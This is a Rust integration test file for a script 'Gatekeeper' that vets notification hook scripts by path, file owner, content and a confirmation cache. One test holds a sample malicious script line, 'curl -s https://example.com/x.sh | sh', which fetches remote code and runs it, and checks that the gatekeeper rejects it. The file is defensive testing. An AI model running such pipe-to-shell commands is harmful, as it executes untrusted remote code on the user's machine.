//! Gatekeeper Integration Tests
//!
//! Tests for custom-script vetting with real files on disk:
//! - Relative paths are always denied
//! - Scripts owned by an untrusted account are always denied
//! - A confirmed privileged-owner script is not prompted again
//! - Any content change forces a new confirmation
//! - The confirmation cache persists across gatekeeper instances

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use tempfile::{tempdir, TempDir};

use notify_relay::services::notification::{
    DenialReason, Gatekeeper, GatekeeperPolicy, ScriptConfirmer,
};

// ============================================================================
// Helpers
// ============================================================================

struct RecordingConfirmer {
    answer: bool,
    prompts: AtomicUsize,
}

impl RecordingConfirmer {
    fn new(answer: bool) -> Arc<Self> {
        Arc::new(Self {
            answer,
            prompts: AtomicUsize::new(0),
        })
    }

    fn prompts(&self) -> usize {
        self.prompts.load(Ordering::SeqCst)
    }
}

impl ScriptConfirmer for RecordingConfirmer {
    fn confirm(&self, _path: &Path, _digest: &str) -> bool {
        self.prompts.fetch_add(1, Ordering::SeqCst);
        self.answer
    }
}

fn write_script(dir: &TempDir, body: &str) -> PathBuf {
    let path = dir.path().join("notify-hook.sh");
    std::fs::write(&path, body).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

fn owner_of(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().uid()
}

/// Treat the script's owner as a privileged account distinct from the caller.
fn privileged_policy(script: &Path) -> GatekeeperPolicy {
    let owner = owner_of(script);
    GatekeeperPolicy {
        invoking_uid: owner.wrapping_add(1),
        privileged_uids: vec![owner],
    }
}

// ============================================================================
// Denials
// ============================================================================

#[test]
fn test_relative_path_always_denied() {
    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(true);
    let gatekeeper = Gatekeeper::new(state.path(), GatekeeperPolicy::default(), confirmer.clone());

    for script in ["notify.sh", "./notify.sh", "scripts/notify.sh"] {
        assert_eq!(gatekeeper.vet(script), Err(DenialReason::NotAbsolute));
    }
    assert_eq!(confirmer.prompts(), 0);
}

#[test]
fn test_third_party_owner_always_denied() {
    let scripts = tempdir().unwrap();
    let script = write_script(&scripts, "#!/bin/sh\nexit 0\n");
    let owner = owner_of(&script);

    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(true);
    let policy = GatekeeperPolicy {
        invoking_uid: owner.wrapping_add(1),
        privileged_uids: vec![owner.wrapping_add(2)],
    };
    let gatekeeper = Gatekeeper::new(state.path(), policy, confirmer.clone());

    assert_eq!(
        gatekeeper.vet(&script.to_string_lossy()),
        Err(DenialReason::UntrustedOwner { uid: owner })
    );
    assert_eq!(confirmer.prompts(), 0);
}

#[test]
fn test_dangerous_content_denied_before_prompt() {
    let scripts = tempdir().unwrap();
    let script = write_script(&scripts, "#!/bin/sh\ncurl -s https://example.com/x.sh | sh\n");

    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(true);
    let gatekeeper = Gatekeeper::new(state.path(), privileged_policy(&script), confirmer.clone());

    assert!(matches!(
        gatekeeper.vet(&script.to_string_lossy()),
        Err(DenialReason::DangerousContent { .. })
    ));
    assert_eq!(confirmer.prompts(), 0);
}

// ============================================================================
// Confirmation cache
// ============================================================================

#[test]
fn test_confirmed_script_not_prompted_again() {
    let scripts = tempdir().unwrap();
    let script = write_script(&scripts, "#!/bin/sh\necho \"$NOTIFY_MESSAGE\"\n");
    let script_str = script.to_string_lossy().into_owned();

    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(true);
    let gatekeeper = Gatekeeper::new(state.path(), privileged_policy(&script), confirmer.clone());

    assert_eq!(gatekeeper.vet(&script_str), Ok(script.clone()));
    assert_eq!(gatekeeper.vet(&script_str), Ok(script.clone()));
    assert_eq!(confirmer.prompts(), 1);

    // A fresh gatekeeper reads the same cache file
    let later = RecordingConfirmer::new(false);
    let gatekeeper = Gatekeeper::new(state.path(), privileged_policy(&script), later.clone());
    assert_eq!(gatekeeper.vet(&script_str), Ok(script));
    assert_eq!(later.prompts(), 0);
}

#[test]
fn test_single_byte_change_forces_prompt() {
    let scripts = tempdir().unwrap();
    let script = write_script(&scripts, "#!/bin/sh\nexit 0\n");
    let script_str = script.to_string_lossy().into_owned();

    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(true);
    let gatekeeper = Gatekeeper::new(state.path(), privileged_policy(&script), confirmer.clone());

    gatekeeper.vet(&script_str).unwrap();
    assert_eq!(confirmer.prompts(), 1);

    std::fs::write(&script, "#!/bin/sh\nexit 1\n").unwrap();
    gatekeeper.vet(&script_str).unwrap();
    assert_eq!(confirmer.prompts(), 2);
}

#[test]
fn test_declined_confirmation_denies_and_is_not_cached() {
    let scripts = tempdir().unwrap();
    let script = write_script(&scripts, "#!/bin/sh\nexit 0\n");
    let script_str = script.to_string_lossy().into_owned();

    let state = tempdir().unwrap();
    let confirmer = RecordingConfirmer::new(false);
    let gatekeeper = Gatekeeper::new(state.path(), privileged_policy(&script), confirmer.clone());

    assert_eq!(gatekeeper.vet(&script_str), Err(DenialReason::ConfirmationDeclined));
    assert_eq!(gatekeeper.vet(&script_str), Err(DenialReason::ConfirmationDeclined));
    assert_eq!(confirmer.prompts(), 2);
}
